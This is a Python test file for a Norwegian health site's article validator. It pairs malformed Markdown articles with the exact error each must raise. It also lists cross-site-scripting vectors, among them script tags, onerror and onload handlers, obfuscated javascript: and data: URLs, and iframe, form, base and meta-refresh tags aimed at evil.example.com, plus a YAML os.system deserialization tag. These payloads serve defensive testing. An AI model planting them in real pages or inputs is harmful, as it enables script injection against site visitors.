"""The bad-input corpus: articles a partner might send, each with the exact finding it must
produce (file, line and message), and script-injection vectors that must never reach a page."""

from __future__ import annotations

import datetime as dt
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import ROOT, article, without_sample_articles
from helsesider.content import corpus as corpus_module
from helsesider.content.corpus import load_corpus
from helsesider.gate.html_policy import CONTENT
from helsesider.gate.scan import scan
from helsesider.settings import Settings

TODAY = dt.date(2026, 11, 22)
PATH = "docs/nb/lege/test.md"
GOOD_BODY = "Tekst."


def fm(**fields) -> bytes:
    return article(**fields).encode()


def body(text: str) -> bytes:
    return article(body=text).encode()


# (name, file content, line, the message it must contain); body lines start at line 9
BAD = [
    ("empty", b"", 1, "file is empty"),
    ("only-whitespace", b"  \n\n", 1, "file is empty"),
    ("no-front-matter", b"# Fastlege\n\nTekst.\n", 1, "the first line must be '---'"),
    ("unclosed", b"---\ntitle: Fastlege\ndescription: x\n\nTekst.\n", 1, "never closed with a '---' line"),
    ("malformed-yaml", b"---\ntitle: Fastlege\ndescription: [ikke lukket\nprovider: x\n---\n", 4, "not valid YAML"),
    ("yaml-colon", b"---\ntitle: Fastlege: hva\n---\n", 2, "not valid YAML"),
    # issue 29: a key without its colon above a list was reported three lines further down
    (
        "key-without-colon",
        b"---\ntitle: Fastlege\ndescription: Om fastlegen.\naliases\n  - Lege\n  - Allmennlege\nprovider: x\n---\n",
        4,
        "'aliases' needs a colon after it, like 'aliases:'",
    ),
    ("tab-indent", b"---\ntitle: Fastlege\n\tdescription: x\n---\n", 3, "tab character in front-matter"),
    ("duplicate-key", b"---\ntitle: a\ndescription: b\ntitle: c\n---\n", 4, "duplicate key 'title' (first on line 2)"),
    ("title-number", fm(title="42"), 2, "title: must be text, got the number 42"),
    ("title-list", fm(title="[a, b]"), 2, "title: must be text, got a list"),
    ("title-empty", fm(title='""'), 2, "title: must not be empty"),
    ("title-html", fm(title="Fast<b>lege</b>"), 2, "title: must be plain text"),
    ("title-too-long", fm(title="x" * 130), 2, "title: 130 characters; at most 120"),
    ("description-missing", fm(description=None), 1, "description: required field is missing"),
    ("impossible-date", fm(reviewed="2026-02-30"), 6, "reviewed:"),
    ("date-wrong-format", fm(reviewed="03.03.2026"), 6, "reviewed:"),
    ("date-number", fm(reviewed="20260303"), 6, "reviewed: must be a date written as YYYY-MM-DD"),
    ("future-reviewed", fm(reviewed="2027-01-01"), 6, "reviewed: 2027-01-01 is in the future"),
    ("next-before-reviewed", fm(extra="next_review: 2026-01-01"), 7, "must be after reviewed"),
    ("unknown-key", fm(extra="reviwer: Ola"), 7, "unknown key 'reviwer' (did you mean 'reviewer'?)"),
    (
        "unknown-provider",
        fm(provider="eksempel-helsetat"),
        4,
        "unknown provider 'eksempel-helsetat' (did you mean 'eksempel-helseetat'?)",
    ),
    ("reviewer-no-role", fm(reviewer="Kari Eksempel"), 5, "write the name and the role"),
    ("aliases-text", fm(extra="aliases: Allmennlege"), 7, "aliases: must be a list"),
    ("bom", b"\xef\xbb\xbf" + fm(), 1, "byte-order mark"),
    ("not-utf8", b"---\ntitle: Fastlege \xe6\xf8\xe5\n---\n", 2, "not UTF-8"),
    ("yaml-anchor", b"---\ntitle: &a Fastlege\ndescription: *a\n---\n", 3, "YAML anchors and aliases"),
    ("python-tag", b"---\ntitle: !!python/object/apply:os.system [ls]\n---\n", 2, "title: value cannot be read"),
    ("huge-file", b"---\ntitle: x\n---\n" + b"a" * (5 * 1024 * 1024), 1, "an article may be at most 1 MB"),
    (
        "unknown-service",
        body("[Bytt](service:bytte-fastleg)"),
        9,
        "unknown service 'bytte-fastleg' (did you mean 'bytte-fastlege'?)",
    ),
    ("http-link", body("[Les](http://helsesider.example.org/x)"), 9, "use https://"),
    ("host-not-allowed", body("[Les](https://evil.example.com/x)"), 9, "'evil.example.com' is not on the list"),
    ("broken-internal-link", body("[Les](finnes-ikke.md)"), 9, "no article docs/nb/lege/finnes-ikke.md"),
    ("broken-anchor", body("[Les](fastlege.md#finnes-ikke)"), 9, "has no heading with the anchor '#finnes-ikke'"),
    ("broken-own-anchor", body("## Del\n\n[Les](#annen-del)"), 11, "no heading with the anchor '#annen-del'"),
    (
        "missing-cross-language",
        body("[Read](../../en/lege/finnes-ikke.md)"),
        9,
        "no article docs/en/lege/finnes-ikke.md in en",
    ),
    ("image-no-alt", body("![](bilde.png)"), 9, "an image needs a text alternative"),
    ("image-external", body("![Kart](https://helsesider.example.org/kart.png)"), 9, "images must be files of the site"),
    ("image-missing", body("![Kart](kart.png)"), 9, "no such file docs/nb/lege/kart.png"),
    ("two-h1", body("# En\n\nTekst.\n\n# To"), 13, "a second level-1 heading ('To')"),
    ("bad-tel", body("[Ring](tel:ring-oss)"), 9, "is not a phone number"),
    ("raw-div", body("<div>Boks</div>"), 9, "raw HTML <div> is not allowed"),
    ("style-attribute", body('<span style="color:red">x</span>'), 9, "the attribute 'style' is not allowed on <span>"),
    # issue 29: text pasted from Word with its formatting
    (
        "word-paste",
        body("<p class=MsoNormal><span style='mso-bidi-font-size:11.0pt'>Ring 116 117<o:p></o:p></span></p>"),
        9,
        "paste it again as plain text (Lim inn som ren tekst",
    ),
]

# Script and embedding vectors: each must be an error at its line (body line 9).
SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<span onmouseover="alert(1)">x</span>',
    "<span\nonclick=alert(1)>x</span>",
    '<span title="a>b" onclick="alert(1)">x</span>',
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example.com></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<style>body{display:none}</style>",
    '<form action="https://evil.example.com"><input name=p></form>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](jav&#97;script:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](https://helsesider.example.org/){onclick=alert(1)}",
    "Tekst {: onmouseover=alert(1) }",
    "<!DOCTYPE html>",
    "<base href=https://evil.example.com/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example.com>",
    "<link rel=stylesheet href=https://evil.example.com/x.css>",
    "<template><script>alert(1)</script></template>",
    "<<script>alert(1)//<</script>",
]


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("bad") / "project"
    root.mkdir()
    shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(ROOT / "data", root / "data")
    without_sample_articles(root / "data")
    (root / "docs" / "nb" / "lege").mkdir(parents=True)
    (root / "docs" / "nb" / "lege" / "fastlege.md").write_text(
        article(body="## Hva er en fastlege?\n\nTekst."), encoding="utf-8"
    )
    return root


def findings_for(project: Path, content: bytes) -> list[str]:
    target = project / PATH
    target.write_bytes(content)
    corpus_module._cache.clear()  # files rewritten within one clock tick can share size and mtime
    corpus = load_corpus(
        project, Settings(external_hosts=("helsesider.example.org", "*.example.org"), today=TODAY), only=[target]
    )
    return [str(f) for f in corpus.findings]


def test_the_corpus_is_big_enough():
    assert len(BAD) + len(SCRIPT) >= 40 and len(SCRIPT) >= 20


@pytest.mark.parametrize("name, content, line, message", BAD, ids=[case[0] for case in BAD])
def test_bad_article_gives_its_finding(project, name, content, line, message):
    found = findings_for(project, content)
    assert any(f.startswith(f"{PATH}:{line}:") and message in f for f in found), found
    assert name == "bom" or any(": error: " in f for f in found)


def test_a_line_pasted_from_word_is_one_finding_and_a_script_in_it_is_still_named(project):
    """Word's HTML is one problem (the paste), not one per tag; what runs scripts is named too."""
    pasted = "<p class=MsoNormal><span style='mso-x:1'>Tekst<o:p></o:p></span><![if !supportLists]>x<![endif]></p>"
    found = findings_for(project, body(pasted + "\n\nMer <span style='color:red'>tekst</span>."))
    assert [f.split(": error: ")[1][:30] for f in found] == [
        "this text was pasted with Word",
        "the attribute 'style' is not a",  # a later line without Word's markup: its own finding
    ], found
    scripted = findings_for(project, body("<p class=MsoNormal>x<script>alert(1)</script></p>"))
    assert any("<script> is not allowed" in f for f in scripted) and len(scripted) == 2, scripted


def test_crlf_line_ends_are_read_like_lf(project):
    assert findings_for(project, fm().replace(b"\n", b"\r\n")) == []
    crlf = fm(reviewed="2026-02-30").replace(b"\n", b"\r\n")
    assert any(f.startswith(f"{PATH}:6:") for f in findings_for(project, crlf))


@pytest.mark.parametrize("vector", SCRIPT)
def test_script_vector_is_an_error_with_its_line(project, vector):
    found = findings_for(project, body(vector))
    lines = range(9, 9 + vector.count("\n") + 1)
    assert any(
        any(f.startswith(f"{PATH}:{line}:") for line in lines) and ": error: " in f and "not allowed" in f
        for f in found
    ), found


class _Markup(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


@pytest.mark.parametrize("vector", SCRIPT)
def test_script_vector_is_caught_again_after_rendering(vector):
    """The build's last check sees what Markdown made of each vector: the unsafe markup is
    named, or Markdown left nothing that could run (the vector stayed text)."""
    rendered = markdown.markdown(vector, extensions=["attr_list", "toc"])
    if CONTENT.problems(rendered, lambda host: True):
        return
    parser = _Markup()
    parser.feed(rendered)
    for tag, attrs in parser.tags:
        assert tag in ("p", "a", "img", "span", "code"), rendered
        for key, value in attrs:
            assert not key.startswith("on"), rendered
            assert key not in ("href", "src") or not re.match(r"\s*(javascript|vbscript|data):", value or "", re.I), (
                rendered
            )


def test_safe_inline_html_and_sample_content_pass(project):
    assert (
        findings_for(project, body('Les <abbr title="Helseøkonomiforvaltningen">Helfo</abbr> og <b>dette</b>.')) == []
    )
    assert findings_for(project, body("[Fastlege](fastlege.md#hva-er-en-fastlege) og [ring](tel:113).")) == []


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=600))
def test_arbitrary_body_gives_findings_not_exceptions(project, text):
    found = scan(text, 8)
    assert all(p.line >= 8 and p.col >= 1 for p in found.problems)
    CONTENT.problems(text, lambda host: True)
    for finding in findings_for(project, article(body=text).encode("utf-8", "surrogatepass")):
        assert finding.startswith("docs/") and (": error: " in finding or ": warning: " in finding)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "[",
                "]",
                "(",
                ")",
                "{",
                "}",
                "#",
                "!",
                ":",
                "=",
                '"',
                "'",
                "\n",
                " ",
                "on",
                "script",
                "javascript",
                "href",
                "service:",
                "https://",
                "a",
                "&#",
                "%",
                "\\",
                "`",
            ]
        ),
        max_size=60,
    )
)
def test_markup_soup_gives_findings_not_exceptions(project, pieces):
    text = "".join(pieces)
    scan(text, 8)
    findings_for(project, article(body=text).encode())
